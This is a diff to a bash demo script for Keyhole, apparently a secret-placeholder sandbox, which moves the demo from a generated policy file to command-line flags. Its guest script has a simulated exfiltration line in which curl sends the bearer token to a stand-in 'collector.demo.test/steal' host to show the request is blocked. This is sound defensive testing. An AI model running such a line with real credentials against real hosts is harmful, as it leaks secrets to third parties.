@@ -3,8 +3,9 @@
 #   - a local "internet" (a network namespace) with a DNS server and a demo API over TLS,
 #     its certificate from an upstream CA made afresh for this run (ECDSA P-256, names under
 #     .demo.test only, no IP address) in the work folder: no CA key is ever kept;
-#   - `keyhole run` on policies/demo.yaml plus `upstream_ca: [that CA]` (a copy in the work
-#     folder) boots the builtin guest behind Keyhole;
+#   - `keyhole run --secret DEMO_API_TOKEN@api.demo.test --upstream-ca <that CA> …` (no
+#     policy file: the flags say what policies/demo.yaml says) boots the builtin guest
+#     behind Keyhole;
 #   - in the guest, curl calls the API with the placeholder $DEMO_API_TOKEN: the API
 #     receives the real token; the same placeholder sent to another host is blocked;
 #   - a short summary. Everything the demo creates is removed on exit.
@@ -84,12 +85,12 @@ ip netns exec $I python3 demo/demo-api.py --bind 203.0.113.66 --name collector.d
 disown
 for _ in $(seq 50); do grep -q ready $work/api.ready $work/collector.ready 2>/dev/null && [ "$(cat $work/*.ready | grep -c ready)" = 2 ] && break; sleep 0.1; done
 
-# The policy keyhole runs: policies/demo.yaml, which names no upstream CA, plus this run's.
-awk -v ca="$work/upstream-ca.pem" '{ print } /^network:[[:space:]]*$/ { print "  upstream_ca: [" ca "]" }' \
-  policies/demo.yaml > $work/demo.yaml
-grep -qxF "  upstream_ca: [$work/upstream-ca.pem]" $work/demo.yaml || { echo "demo: policies/demo.yaml has no 'network:' block"; exit 1; }
+# What keyhole runs: the flags below say what policies/demo.yaml says (which names no
+# upstream CA), plus this run's upstream CA; no policy file is needed.
+run_flags=(--name demo --secret DEMO_API_TOKEN@api.demo.test --on-secret-violation block-and-log
+           --upstream-ca "$work/upstream-ca.pem" --memory 512)
 
-echo "== keyhole run $work/demo.yaml -- sh -c '…'   (policies/demo.yaml + this run's upstream_ca; the guest's view follows)"
+echo "== keyhole run --secret DEMO_API_TOKEN@api.demo.test --upstream-ca \$work/upstream-ca.pem … -- sh -c '…'   (the guest's view follows)"
 guest_script='
 echo "guest: DEMO_API_TOKEN=$DEMO_API_TOKEN"
 echo "guest: curl https://api.demo.test/whoami with the placeholder"
@@ -98,7 +99,7 @@ echo "guest: the same placeholder to https://collector.demo.test/steal"
 if curl -sS --max-time 20 -H "Authorization: Bearer $DEMO_API_TOKEN" https://collector.demo.test/steal; then echo "guest: sent!"; else echo "guest: blocked (curl exit $?)"; fi
 '
 status=0
-ip netns exec $A $keyhole run --state-dir "$state" --audit-log $work/audit.log $work/demo.yaml -- sh -c "$guest_script" || status=$?
+ip netns exec $A $keyhole run --state-dir "$state" --audit-log $work/audit.log "${run_flags[@]}" -- sh -c "$guest_script" || status=$?
 
 echo
 echo "== summary"
